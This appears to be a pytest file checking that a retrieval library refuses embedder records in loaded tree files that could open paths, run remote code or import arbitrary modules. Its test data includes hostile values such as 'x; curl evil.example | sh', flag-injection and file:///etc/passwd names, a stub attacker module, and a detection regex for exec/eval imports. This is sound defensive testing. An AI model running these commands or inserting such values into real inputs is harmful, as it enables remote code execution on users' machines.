"""The closed allowlist of what a loaded tree may create (issue 11: tree files are data).

Every test here works on the *record* a tree file carries (``tree.params["embedder"]``);
the hostile-tree tests (test_hostile_trees.py) forge whole trees and go through the CLI and
the adapters.
"""

from __future__ import annotations

import re
import sys
import warnings
from pathlib import Path

import numpy as np
import pytest

import raptor_core.components as components
from raptor_core.backends.sentence_transformers import SentenceTransformerEmbedder
from raptor_core.build.builder import TreeBuilder, describe
from raptor_core.components import (
    ALLOWED_EMBEDDERS,
    EmbedderMismatchWarning,
    check_embedder,
    embedder_for_tree,
    recreate_embedder,
)
from raptor_core.exceptions import EmbeddingError, InvalidParameterError, TreeFormatError
from raptor_core.testing import EchoSummarizer, FakeEmbedder, WhitespaceTokenizer, tiny_tree
from raptor_core.tree import Tree

ST = "raptor_core.backends.sentence_transformers.SentenceTransformerEmbedder"
FAKE = "raptor_core.testing.FakeEmbedder"
ROOT = Path(__file__).resolve().parents[2]


def st_record(name: str = "all-MiniLM-L6-v2", **extra: object) -> dict[str, object]:
    return {"class": ST, "model_name_or_path": name, **extra}


@pytest.fixture
def in_tmp(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Run in an empty directory, so names of local directories are under the test's control."""
    monkeypatch.chdir(tmp_path)
    return tmp_path


# -- what a load re-creates by itself ----------------------------------------------------------
def test_the_allowlist_is_closed() -> None:
    assert frozenset({ST, FAKE}) == ALLOWED_EMBEDDERS


def test_recorded_fake_is_recreated_with_its_dim() -> None:
    embedder = recreate_embedder(describe(FakeEmbedder(24)), dim=24)
    assert isinstance(embedder, FakeEmbedder) and embedder.dim == 24
    # Older trees recorded the call counters too: they are state, and are ignored.
    old = {"class": FAKE, "dim": 24, "calls": 3, "texts_embedded": 9}
    assert recreate_embedder(old).dim == 24


def test_describe_records_parameters_not_state() -> None:
    fake = FakeEmbedder(8)
    fake.embed_documents(["a b"])
    assert describe(fake) == {"class": FAKE, "dim": 8}
    assert describe(SentenceTransformerEmbedder())["trust_remote_code"] is False


@pytest.mark.parametrize(
    ("record", "match"),
    [
        ({"class": FAKE, "dim": 0}, "dim=0"),
        ({"class": FAKE, "dim": "64"}, "dim='64'"),
        ({"class": FAKE, "dim": True}, "dim=True"),
        ({"class": FAKE, "dim": 10**9}, "dim="),
        ({"class": FAKE, "dim": 8, "path": "/tmp/x"}, "'path'"),
    ],
)
def test_bad_fake_records_are_refused(record: dict[str, object], match: str) -> None:
    with pytest.raises(InvalidParameterError, match=re.escape(match)):
        recreate_embedder(record)


def test_fake_record_that_contradicts_the_vectors_is_a_format_error() -> None:
    with pytest.raises(TreeFormatError, match="16 dimensions"):
        recreate_embedder({"class": FAKE, "dim": 8}, dim=16)


def test_packaged_default_is_recreated_without_remote_code(in_tmp: Path) -> None:
    record = st_record(
        batch_size=8,
        device="cuda:7",
        normalize=False,
        query_prompt="query: ",
        document_prompt=None,
        trust_remote_code=False,
    )
    embedder = recreate_embedder(record)
    assert isinstance(embedder, SentenceTransformerEmbedder)
    assert embedder.model_name_or_path == "all-MiniLM-L6-v2"
    assert embedder.trust_remote_code is False
    assert embedder.device is None  # never taken from a file: the best device here is used
    assert (embedder.batch_size, embedder.normalize, embedder.query_prompt) == (8, False, "query: ")


@pytest.mark.parametrize("name", ["BAAI/bge-small-en-v1.5", "intfloat/e5-small-v2", "bert-base"])
def test_hub_ids_are_recreated(in_tmp: Path, name: str) -> None:
    embedder = recreate_embedder(st_record(name))
    assert isinstance(embedder, SentenceTransformerEmbedder)
    assert embedder.model_name_or_path == name and embedder.trust_remote_code is False


@pytest.mark.parametrize(
    "name",
    [
        "/home/alice/models/minilm",
        "./minilm",
        "../minilm",
        "~/minilm",
        "models/minilm/v2",
        "C:\\models\\minilm",
        "org/../etc",
        "org/-bad",
        "org/bad.",
        "a--b/c",
        "",
        "x" * 200,
        "name with spaces",
        "file:///etc/passwd",
        "https://evil.example/model",
    ],
)
def test_paths_and_odd_names_are_never_opened(in_tmp: Path, name: str) -> None:
    with pytest.raises(InvalidParameterError, match=r"embedder=SentenceTransformerEmbedder\("):
        recreate_embedder(st_record(name))


def test_a_recorded_path_names_itself_in_the_advice(in_tmp: Path) -> None:
    with pytest.raises(InvalidParameterError) as info:
        recreate_embedder(st_record("/srv/models/minilm"))
    assert "embedder=SentenceTransformerEmbedder('/srv/models/minilm')" in str(info.value)
    with pytest.raises(InvalidParameterError) as info:
        recreate_embedder(st_record("/srv/models/minilm"), pass_as="--embedder")
    assert "--embedder /srv/models/minilm" in str(info.value)


@pytest.mark.parametrize("name", ["all-MiniLM-L6-v2", "someone/model"])
def test_a_name_shadowed_by_a_local_directory_is_refused(in_tmp: Path, name: str) -> None:
    # sentence-transformers loads a local directory before the hub, and a model directory
    # names the classes it is made of: a file must not steer a load into one.
    (in_tmp / name).mkdir(parents=True)
    (in_tmp / name / "modules.json").write_text('[{"type": "evil_module.Thing"}]')
    with pytest.raises(InvalidParameterError, match="exists"):
        recreate_embedder(st_record(name))


def test_a_directory_that_appears_after_the_check_is_refused_at_load(in_tmp: Path) -> None:
    embedder = recreate_embedder(st_record("someone/model"))
    (in_tmp / "someone" / "model").mkdir(parents=True)
    with pytest.raises(EmbeddingError, match="local path"):
        embedder.embed_query("x")  # refused before sentence-transformers is asked


@pytest.mark.parametrize(
    ("extra", "match"),
    [
        ({"trust_remote_code": True}, "trust_remote_code"),
        ({"trust_remote_code": "yes"}, "trust_remote_code"),
        ({"cache_folder": "/tmp/cache"}, "'cache_folder'"),
        ({"model_kwargs": "{}"}, "'model_kwargs'"),
        ({"revision": "main"}, "'revision'"),
        ({"token": "hf_x"}, "'token'"),
        ({"normalize": "yes"}, "normalize"),
        ({"batch_size": 0}, "batch_size"),
        ({"batch_size": 10**7}, "batch_size"),
        ({"device": ["cuda"]}, "device"),
        ({"query_prompt": "x" * 5000}, "query_prompt"),
        ({"document_prompt": "\x1b[2J"}, "document_prompt"),
        ({"query_prompt": 3}, "query_prompt"),
    ],
)
def test_arguments_a_load_never_takes_are_refused(
    in_tmp: Path, extra: dict[str, object], match: str
) -> None:
    with pytest.raises(InvalidParameterError, match=re.escape(match)):
        recreate_embedder(st_record("someone/model", **extra))


def test_old_sentence_transformers_refuses_hub_ids_but_not_the_packaged_model(
    in_tmp: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Before 6.0, sentence-transformers imported any installed class a model's files name.
    monkeypatch.setattr(components, "_st_version", lambda: (5, 1))
    with pytest.raises(InvalidParameterError, match=r"sentence-transformers>=6\.0"):
        recreate_embedder(st_record("someone/model"))
    assert isinstance(recreate_embedder(st_record()), SentenceTransformerEmbedder)


# -- everything else must be passed ------------------------------------------------------------
@pytest.mark.parametrize(
    ("record", "advice"),
    [
        (
            {
                "class": "raptor_core.backends.openai.OpenAIEmbedder",
                "model": "text-embedding-3-small",
            },
            "embedder=OpenAIEmbedder('text-embedding-3-small', base_url=...)",
        ),
        ({"class": "raptor_core.cli.main", "argv": ["build"]}, "pass embedder="),
        ({"class": "raptor_core.evaluation.runner._load_dotted", "path": "x:y"}, "pass embedder="),
        ({"class": "raptor_langchain.models.LangChainEmbedder", "model": None}, "pass embedder="),
        ({"class": "builtins.eval", "source": "1"}, "pass embedder="),
        ({"class": "raptor_core.testing.EchoSummarizer"}, "pass embedder="),
        ({"model_name_or_path": "all-MiniLM-L6-v2"}, "pass embedder="),
        ({}, "pass embedder="),
    ],
)
def test_anything_else_names_what_to_pass(record: dict[str, object], advice: str) -> None:
    with pytest.raises(InvalidParameterError) as info:
        recreate_embedder(record)
    assert advice in str(info.value)


@pytest.mark.parametrize(
    ("pass_as", "advice"),
    [
        ("embedder", "pass embedder=OpenAIEmbedder('m-1', base_url=...)"),
        ("embeddings", "pass embeddings=OpenAIEmbedder('m-1', base_url=...)"),
        ("embed_model", "pass embed_model=OpenAIEmbedder('m-1', base_url=...)"),
        ("--embedder", "pass --embedder openai:m-1, with --embed-base-url URL"),
    ],
)
def test_the_advice_speaks_the_callers_dialect(pass_as: str, advice: str) -> None:
    record = {"class": "raptor_core.backends.openai.OpenAIEmbedder", "model": "m-1"}
    with pytest.raises(InvalidParameterError) as info:
        recreate_embedder(record, pass_as=pass_as)
    assert advice in str(info.value)


@pytest.mark.parametrize("record", [None, "FakeEmbedder", ["class"], 3])
def test_missing_or_malformed_records(record: object) -> None:
    with pytest.raises(InvalidParameterError, match="pass embedder="):
        recreate_embedder(record)


def test_a_record_never_imports_what_it_names(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    marker = tmp_path / "imported"
    (tmp_path / "attacker_payload.py").write_text(
        f"open({str(marker)!r}, 'w').write('ran')\nclass Embedder:\n    pass\n"
    )
    monkeypatch.syspath_prepend(str(tmp_path))
    for record in (
        {"class": "attacker_payload.Embedder"},
        {"class": "raptor_core.evaluation.runner._load_dotted", "path": "attacker_payload:x"},
        {"class": "importlib.import_module", "name": "attacker_payload"},
    ):
        with pytest.raises(InvalidParameterError):
            recreate_embedder(record)
    assert "attacker_payload" not in sys.modules and not marker.exists()


def test_messages_escape_what_the_file_says() -> None:
    record = {"class": "\x1b]0;owned\x07x.Y", "model": "m\x1b[2J\n"}
    with pytest.raises(InvalidParameterError) as info:
        recreate_embedder(record, pass_as="--embedder")
    text = str(info.value)
    assert "\x1b" not in text and "\x07" not in text and "\n" not in text
    assert "\\x1b" in text
    # A model name unsafe to paste into a shell is not offered as a command.
    weird = {
        "class": "raptor_core.backends.openai.OpenAIEmbedder",
        "model": "x; curl evil.example | sh",
    }
    with pytest.raises(InvalidParameterError) as info:
        recreate_embedder(weird, pass_as="--embedder")
    assert "--embedder openai:MODEL" in str(info.value)
    flag = {"class": ST, "model_name_or_path": "--embed-base-url=http://evil.example"}
    with pytest.raises(InvalidParameterError) as info:
        recreate_embedder(flag, pass_as="--embedder")
    assert "--embedder PATH_OR_NAME" in str(info.value)


# -- what the caller passes is checked against the record ---------------------------------------
def _fake_tree(dim: int = 16) -> Tree:
    builder = TreeBuilder(
        FakeEmbedder(dim), EchoSummarizer(), tokenizer=WhitespaceTokenizer(), random_state=0
    )
    return builder.build(["Cats purr and sleep. " * 30, "Rockets reach orbit. " * 30])


def test_a_passed_embedder_of_another_dimension_is_refused() -> None:
    tree = _fake_tree(16)
    with pytest.raises(InvalidParameterError, match="32 dimensions but the tree's vectors have 16"):
        embedder_for_tree(tree, FakeEmbedder(32))
    assert embedder_for_tree(tree, FakeEmbedder(16)).dim == 16


def test_a_passed_model_with_another_name_warns(in_tmp: Path) -> None:
    tree = tiny_tree()
    record = st_record("sentence-transformers/all-MiniLM-L6-v2")
    tree = Tree(nodes=tree.nodes, embeddings=tree.embeddings, params={"embedder": record})
    other = SentenceTransformerEmbedder("BAAI/bge-small-en-v1.5")  # not loaded: dim unknown
    with pytest.warns(EmbedderMismatchWarning, match="bge-small"):
        check_embedder(tree, other)
    # The same model under another spelling (hub id, local copy) is not a mismatch.
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        check_embedder(tree, SentenceTransformerEmbedder("all-MiniLM-L6-v2"))
        check_embedder(tree, SentenceTransformerEmbedder("/srv/models/all-MiniLM-L6-v2/"))
        check_embedder(tree, FakeEmbedder(tree.dim))  # no model name: nothing to compare


def test_an_empty_tree_accepts_any_dimension() -> None:
    empty = Tree(
        nodes=(),
        embeddings=np.zeros((0, 0), dtype=np.float32),
        params={"embedder": describe(FakeEmbedder(8))},
    )
    assert embedder_for_tree(empty, FakeEmbedder(99)).dim == 99
    assert embedder_for_tree(empty).dim == 8


# -- no generic import-by-name anywhere ---------------------------------------------------------
def test_no_module_imports_names_it_did_not_write() -> None:
    # The only dynamic imports: optional dependencies named in our own code, and
    # `raptor eval --retrievers module:Factory`, which the user types on the command line.
    allowed = {"raptor_core/_imports.py", "raptor_core/evaluation/runner.py"}
    pattern = re.compile(r"import_module\(|__import__\(|spec_from_file_location|\bexec\(|\beval\(")
    offenders = []
    for package in ("raptor_core", "raptor_llamaindex", "raptor_langchain"):
        for path in sorted((ROOT / package).rglob("*.py")):
            rel = path.relative_to(ROOT).as_posix()
            if rel not in allowed and pattern.search(path.read_text(encoding="utf-8")):
                offenders.append(rel)
    assert offenders == []
    assert not (ROOT / "raptor_core" / "resolve.py").exists()
